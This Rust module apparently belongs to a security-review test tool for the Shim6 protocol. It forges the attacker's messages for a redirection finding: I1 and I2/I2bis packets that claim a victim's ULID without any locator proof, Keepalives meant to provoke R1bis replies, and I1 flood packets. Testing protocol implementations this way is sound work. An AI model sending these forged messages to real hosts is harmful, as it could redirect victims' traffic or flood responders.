//! The attacker's messages, built with the protocol's own codec.
//!
//! The redirection attempt of finding C1 (security review): an I1 whose
//! ULID Pair option names a victim's ULID as the sender, then an I2 (or,
//! after an R1bis, an I2bis) that echoes the responder's validator and
//! carries no Locator List, no CGA Parameters and no signature. A
//! responder that takes the packet's source as a locator of the victim
//! without proof hands the victim's traffic to the attacker.

use std::net::Ipv6Addr;

use shim6_proto::random::RandomSource;
use shim6_proto::wire::{
    msg_type, ContextTag, Error, I2bis, Keepalive, Message, Options, R1bis, UlidPair, I1, I2, R1,
};

/// What the attacker, as initiator, keeps between its I1 and its I2.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Initiator {
    /// The tag the attacker claims as its CT(local).
    pub tag: ContextTag,
    pub nonce: u32,
    /// The ULIDs claimed; `None` sends no ULID Pair option (the addresses
    /// of the packet are then the ULIDs).
    pub ulids: Option<UlidPair>,
}

/// A tag that is never 0 (0 is a valid tag, but a responder could treat
/// it specially; the attack should not depend on that).
pub fn random_tag(rng: &mut impl RandomSource) -> ContextTag {
    ContextTag::from_masked(rng.next_u64()).max(ContextTag::from_masked(1))
}

impl Initiator {
    pub fn random(rng: &mut impl RandomSource, ulids: Option<UlidPair>) -> Self {
        Initiator {
            tag: random_tag(rng),
            nonce: rng.next_u32(),
            ulids,
        }
    }

    pub fn i1(&self) -> Message {
        Message::I1(I1 {
            initiator_tag: self.tag,
            initiator_nonce: self.nonce,
            options: Options {
                ulid_pair: self.ulids,
                ..Options::default()
            },
        })
    }

    /// The options of an I2 or I2bis answering a challenge: the validator
    /// echoed, the ULID Pair repeated, and no proof of any locator.
    fn unproved_options(&self, validator: Vec<u8>) -> Options {
        Options {
            responder_validator: Some(validator),
            ulid_pair: self.ulids,
            ..Options::default()
        }
    }

    /// The I2 answering `r1`; `None` when the R1 carries no validator.
    pub fn i2_answering(&self, r1: &R1) -> Option<Message> {
        let validator = r1.options.responder_validator.clone()?;
        Some(Message::I2(I2 {
            initiator_tag: self.tag,
            initiator_nonce: self.nonce,
            responder_nonce: r1.responder_nonce,
            options: self.unproved_options(validator),
        }))
    }

    /// The I2bis answering `r1bis`; `None` when it carries no validator.
    pub fn i2bis_answering(&self, r1bis: &R1bis) -> Option<Message> {
        let validator = r1bis.options.responder_validator.clone()?;
        Some(Message::I2bis(I2bis {
            initiator_tag: self.tag,
            initiator_nonce: self.nonce,
            responder_nonce: r1bis.responder_nonce,
            packet_tag: r1bis.packet_tag,
            options: self.unproved_options(validator),
        }))
    }

    /// Does `message` answer this initiator's I1 (R1) or I2 (R2)?
    pub fn is_answered_by(&self, message: &Message) -> bool {
        match message {
            Message::R1(r1) => r1.initiator_nonce == self.nonce,
            Message::R2(r2) => r2.initiator_nonce == self.nonce,
            _ => false,
        }
    }
}

/// A Keepalive for a context tag the receiver does not have: the cheapest
/// message that makes a responder answer with an R1bis.
pub fn keepalive_for_tag(receiver_tag: ContextTag) -> Message {
    Message::Keepalive(Keepalive {
        receiver_tag,
        options: Options::default(),
    })
}

/// An I1 with fresh tag and nonce and no options, as a flood sends them.
pub fn plain_i1(rng: &mut impl RandomSource) -> Message {
    Initiator::random(rng, None).i1()
}

/// What one received Shim6 header is, by the names the report uses.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Received {
    Control(Box<Message>),
    /// A payload extension header (P = 1): someone's data, redirected to us.
    Payload,
    /// Not parsable as a control message; the codec's reason.
    Malformed(Error),
}

impl Received {
    /// `bytes` start at the Shim6 header (raw IPv6 sockets strip the IPv6
    /// header).
    pub fn classify(bytes: &[u8]) -> Received {
        match Message::parse(bytes) {
            Ok(message) => Received::Control(Box::new(message)),
            Err(Error::NotControl) => Received::Payload,
            Err(error) => Received::Malformed(error),
        }
    }

    /// The counter this header goes to in the report.
    pub fn name(&self) -> &'static str {
        match self {
            Received::Control(message) => message_name(message),
            Received::Payload => "payload",
            Received::Malformed(_) => "malformed",
        }
    }
}

/// Lower-case message names, as in the report's JSON.
pub fn message_name(message: &Message) -> &'static str {
    match message.msg_type() {
        msg_type::I1 => "i1",
        msg_type::R1 => "r1",
        msg_type::I2 => "i2",
        msg_type::R2 => "r2",
        msg_type::R1BIS => "r1bis",
        msg_type::I2BIS => "i2bis",
        msg_type::UPDATE_REQUEST => "update_request",
        msg_type::UPDATE_ACK => "update_ack",
        msg_type::KEEPALIVE => "keepalive",
        msg_type::PROBE => "probe",
        msg_type::ERROR => "error",
        _ => "other",
    }
}

/// The ULID Pair an attack names: `sender` is whose traffic it wants,
/// `receiver` whose context it wants to change.
pub fn ulid_pair(sender: Ipv6Addr, receiver: Ipv6Addr) -> UlidPair {
    UlidPair { sender, receiver }
}

#[cfg(test)]
#[path = "forge_tests.rs"]
mod tests;
